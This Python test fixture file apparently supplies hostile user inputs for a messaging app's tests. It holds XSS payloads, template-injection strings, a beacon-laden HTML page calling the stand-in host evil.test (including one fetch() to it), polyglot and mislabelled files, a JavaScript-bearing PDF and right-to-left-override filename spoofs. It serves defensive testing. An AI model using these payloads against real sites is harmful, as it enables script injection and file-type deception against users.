"""What customers send who mean harm: words, names, pages, files. Whatever of it ran would set `hacked`."""

from __future__ import annotations

from tests.pictures import png

SCRIPT = "<script>top.hacked = 1; fetch('https://evil.test/text')</script>"
PICTURE = "<img src=https://evil.test/x onerror=top.hacked=2><svg/onload=top.hacked=3>"
ADDRESS = "javascript:top.hacked=4"
PAGE = "data:text/html,<script>top.hacked=5</script>"
TURNED = "\u202egnp.exe\u2066\u2067 \u05d0\u05d1\u05d2 \u2069\u2069\u2069\u202b"
ZALGO = "".join(f"{letter}{chr(0x300 + place % 70) * 40}" for place, letter in enumerate("zalgo comes"))
FAMILY = "👨‍👩‍👧‍👦" * 60
BRACES = (
    "{{ constructor.constructor('top.hacked=6')() }} {name} {0} @:common.close | one | {n} many %{x} ${top.hacked=7}"
)
WORDS = {
    "script": SCRIPT,
    "handler": PICTURE,
    "address": f"{ADDRESS} {PAGE} vbscript:x https://evil.test/{'a' * 3000}",
    "quotes": "\"'><b onmouseover=top.hacked=8 style=position:fixed;inset:0>x</b>",
    "quoted address": 'https://evil.test/"onmouseover="top.hacked=9 https://evil.test/<script>top.hacked=10</script>',
    "entities": "&lt;script&gt;top.hacked=11&lt;/script&gt; &amp;#60; &#x3c;img src=x onerror=top.hacked=12&#x3e;",
    "braces": BRACES,
    "turned around": TURNED,
    "turned address": f"https://evil.test/\u202egnp.elgoog {TURNED}",
    "one word": "W" * 3000,
    "no letters": "\u200b\u200d\u2060\ufeff",
    "stacked marks": ZALGO,
    "emoji": FAMILY,
    "lines": "\n" * 300 + "x",
    "separators": "a\x7f\x85\u2028\u2029b\ufffd",
    "like an object": "__proto__ constructor toString hasOwnProperty [object Object] null undefined NaN",
}
HOSTILE_PAGE = """<html><head><script>top.hacked = 20</script><base href="https://evil.test/"><title>x</title>
<meta http-equiv="refresh" content="0;url=https://evil.test/meta">
<link rel="stylesheet" href="https://evil.test/a.css">
<link rel="prefetch dns-prefetch preconnect" href="https://evil.test/early"><style>@import "https://evil.test/b.css";
@font-face {{ font-family: x; src: url(https://evil.test/font) }}
body {{ background: url(https://evil.test/bg) }}</style>
</head><body onload="top.hacked = 21" background="https://evil.test/old" style="font-family: x">
<p style="background: url('https://evil.test/p'); position: fixed; inset: 0">{words}</p>
<img src="https://evil.test/pixel.gif" width="1" height="1"><img srcset="https://evil.test/set 2x" src="cid:none">
<picture><source srcset="https://evil.test/source"><img src="//evil.test/bare"></picture>
<svg onload="top.hacked = 22"><image href="https://evil.test/svg"/><use href="https://evil.test/use#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.hacked = 23"></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>top.hacked = 24</script>"></iframe><object data="https://evil.test/object"></object>
<embed src="https://evil.test/embed"><audio src="https://evil.test/audio" autoplay></audio>
<form action="https://evil.test/form"><input autofocus onfocus="top.hacked = 25">
<button formaction="{address}">go</button>
</form><a href="{address}">press</a><a href="{page}">press</a>
<a href="https://evil.test/ping" ping="https://evil.test/p">a</a>
<table background="https://evil.test/table" width="9999"><tr><td>{long}</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=top.hacked=26>"></noscript></body></html>"""
LINES = "\r\n".join(f"line {number}" for number in range(2000))


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=30"><script>top.hacked=31</script></svg>'
FILES = {  # by the name they claim
    "drawing.png": SVG,
    "page.png": b"<!doctype html><script>top.hacked=32</script>",
    "both.gif": b"GIF89a/*" + bytes(20) + b"*/=1;top.hacked=33//<script>top.hacked=34</script>",
    "huge.png": png(8000, 8000),
    "broken.png": png(80, 80)[:40],
    "voice.mp3": SVG,
    "film.mp4": b"\0\0\0\x18ftypisom" + bytes(100),
    "page.html": b"<script>top.hacked=35</script>",
    "drawing.svg": SVG,
    "paper.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    f'"><img src=x onerror=top.hacked=36>{"n" * 150}.png': png(20, 20),
    f"invoice{TURNED}.pdf": b"%PDF-1.4",
}
NAMES = {
    "script": SCRIPT,
    "handler": f'{PICTURE}"><b>',
    "braces": BRACES,
    "turned": TURNED,
    "long": "n" * 300,
    "marks": ZALGO,
    "family": FAMILY,
    "nothing": "\u200b\u200d\u2060",
}
WRONG_FIELDS = (
    ("link", {"Title": {"a": [1, {"b": None}]}, "Description": ["x"], "Url": {"href": ADDRESS}}),
    ("location", {"Location_X": "1e999", "Location_Y": {}, "Scale": "-1", "Label": 7}),
    ("location", {"Location_X": "91", "Location_Y": "-181", "Label": SCRIPT}),
    ("image", {"PicUrl": PAGE, "MediaId": {"x": 1}}),
    ("no_such_type", {"Title": SCRIPT, "Url": {"href": ADDRESS}, "PicUrl": PAGE}),
)
